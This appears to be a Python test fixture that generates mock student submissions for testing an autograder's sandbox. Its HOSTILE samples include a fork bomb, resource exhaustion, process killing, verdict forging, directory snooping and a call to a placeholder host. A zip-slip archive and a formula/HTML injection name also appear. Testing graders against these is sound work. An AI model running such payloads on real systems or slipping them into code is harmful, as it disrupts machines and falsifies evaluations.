"""Invent a class: `python -m tests.kit.grading.classroom DIR [COUNT]` writes up to 30 submissions into a new folder.

Right and wrong ones come from the attempts that the checks themselves are examined with; the broken and the hostile
ones begin with a right solution and do one thing more. A name says what is to be expected of it.
"""

from __future__ import annotations

import shutil
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.chapter import find
from tests.kit.attempts import FOLDER as ATTEMPTS

RIGHT = {
    "19.1.1": "two_stages_shell_form",
    "19.2.1": "history_in_a_dict.py",
    "19.2.2": "by_hand_with_400.py",
    "19.2.3": "fixed_window.py",
    "19.3.1": "railway.md",
    "19.3.2": "dataclass_like_the_book.py",
    "19.4.1": "print_json.py",
    "19.5.2": "the_chapters_pattern.py",
    "19.6.2": "local_hashed_words_in_a_matrix.py",
    "19.7.1": "lines_and_patterns.py",
    "19.7.3": "asgi_class_around_the_app.py",
}
HOSTILE = {
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "endless_loop": """
while True:
    pass
""",
    "ten_gigabytes_of_output": """
while True:
    try:
        print("x" * 1_000_000)
    except OSError:
        pass
""",
    "ten_gigabytes_on_disk": """
for number in range(200):
    with open(f"big{number}", "wb") as file:
        file.write(b"x" * 50_000_000)
""",
    "all_the_memory": """
eaten = []
while True:
    eaten.append(bytearray(50_000_000))
""",
    "deletes_its_own_folder": """
import os, shutil
shutil.rmtree(os.path.dirname(os.path.abspath(__file__)))
""",
    "writes_the_verdict": """
for place in ("../_results/results.json", "/dev/fd/1", "/proc/1/fd/1", "/proc/1/mem"):
    try:
        with open(place, "a") as file:
            file.write('{"check": "nosniff", "status": "met"}\\n')
    except OSError:
        pass
""",
    "reads_others_and_the_tests": """
import os
for place in ("../..", "../../../tests/contracts", "/root", "/home"):
    try:
        print(os.listdir(place))
    except OSError:
        pass
""",
    "leaves_a_daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
""",
    "kills_everybody": """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for pid in (-1, *range(1, os.getpid())):
    try:
        os.kill(pid, signal.SIGTERM if pid < 0 else signal.SIGKILL)
    except OSError:
        pass
""",
    "calls_home": """
import urllib.request
urllib.request.urlopen("http://203.0.113.7/keys", timeout=3)
""",
}
Make = Callable[[Path], None]


def make_class(folder: Path, only: tuple[str, ...] = ()) -> list[str]:
    """Write the submissions (all, or those of these names) into a new folder; returns their names."""
    folder.mkdir(parents=True)
    made = {name: make for name, make in students().items() if not only or name in only}
    for name, make in made.items():
        make(folder / name)
    return list(made)


def students() -> dict[str, Make]:
    """Return the whole class: a name, and what makes the submission."""
    right = [right_solutions(*list(RIGHT)[start::4]) for start in range(4)]
    wrong = [
        wrong_solution(exercise, number) for number, exercise in enumerate(("19.2.2", "19.2.3", "19.1.1", "19.7.3"))
    ]
    broken = ("syntax_error.py", "package_not_installed.py", "handler_hangs.py", "no_chat_endpoint.py")
    return {
        **{f"right_{number}": make for number, make in enumerate(right)},
        **{f"wrong_{number}": make for number, make in enumerate(wrong)},
        **{f"broken_{name.removesuffix('.py')}": copies("19.2.3", ATTEMPTS / "broken" / name) for name in broken},
        **{f"hostile_{name}": starting_with(code) for name, code in HOSTILE.items()},
        "unknown layout (no chapter names)": unknown_layout,
        "empty": Path.mkdir,
        "two solutions of one exercise": ambiguous,
        "=SUM(A1) | <b>Jürgen 李": mapped,
        "ANNA.zip": in_a_zip("19.2.2"),
        "anna": right_solutions("19.2.2"),
        "slip.zip": zip_slip,
    }


def right_solutions(*exercises: str) -> Make:
    """Make a submission with an accepted attempt at each of these."""

    def make(place: Path) -> None:
        for exercise in exercises:
            copies(exercise, ATTEMPTS / exercise / "accepted" / RIGHT[exercise])(place)

    return make


def wrong_solution(exercise: str, number: int) -> Make:
    """Make a submission with one of the rejected attempts."""
    attempts = sorted(p for p in (ATTEMPTS / exercise / "rejected").iterdir() if not p.name.startswith(("_", ".")))
    return copies(exercise, attempts[number % len(attempts)])


def copies(exercise: str, attempt: Path) -> Make:
    """Make a submission of one attempt, under the chapter's name; a folder as a folder, by submission.toml."""

    def make(place: Path) -> None:
        place.mkdir(exist_ok=True)
        if attempt.is_dir():
            shutil.copytree(attempt, place / f"my {exercise}", dirs_exist_ok=True)
            with (place / "submission.toml").open("a", encoding="utf-8") as file:
                file.write(f'[exercises]\n"{exercise}" = "my {exercise}"\n')
        else:
            names = [name for name in find(exercise).files if Path(name).suffix == attempt.suffix]
            shutil.copy(attempt, place / names[0])

    return make


def starting_with(code: str) -> Make:
    """Make a submission that is right, and does one thing more than it should."""

    def make(place: Path) -> None:
        right_solutions("19.7.3")(place)
        file = place / find("19.7.3").files[0]
        file.write_text(code + file.read_text(encoding="utf-8"), encoding="utf-8")

    return make


def unknown_layout(place: Path) -> None:
    """Hand in a right solution under a name that nobody agreed on."""
    place.mkdir()
    shutil.copy(ATTEMPTS / "19.7.3" / "accepted" / RIGHT["19.7.3"], place / "solution.py")


def ambiguous(place: Path) -> None:
    """Hand in one exercise twice."""
    for folder in ("draft", "final version"):
        (place / folder).mkdir(parents=True)
        right_solutions("19.2.3")(place / folder)


def mapped(place: Path) -> None:
    """Hand in files of other names, with a submission.toml that says which is which."""
    unknown_layout(place)
    (place / "submission.toml").write_text('[exercises]\n"19.7.3" = "solution.py:app"\n', encoding="utf-8")


def zip_slip(place: Path) -> None:
    """Hand in an archive that writes beside itself."""
    with zipfile.ZipFile(place, "w") as archive:
        archive.writestr("exercise_3_19_2_solution.py", "app = None\n")
        archive.writestr("../../_results/slipped.txt", "all met\n")


def in_a_zip(*exercises: str) -> Make:
    """Make an archive with a folder in it, as people pack them."""

    def make(place: Path) -> None:
        with tempfile.TemporaryDirectory() as folder:
            inside = Path(folder) / "chapter 19"
            right_solutions(*exercises)(inside)
            with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as archive:
                for file in sorted(inside.rglob("*")):
                    archive.write(file, file.relative_to(folder))

    return make


if __name__ == "__main__":
    place, count = Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 30
    print(f"{len(make_class(place, tuple(students())[:count]))} submissions in {place}")
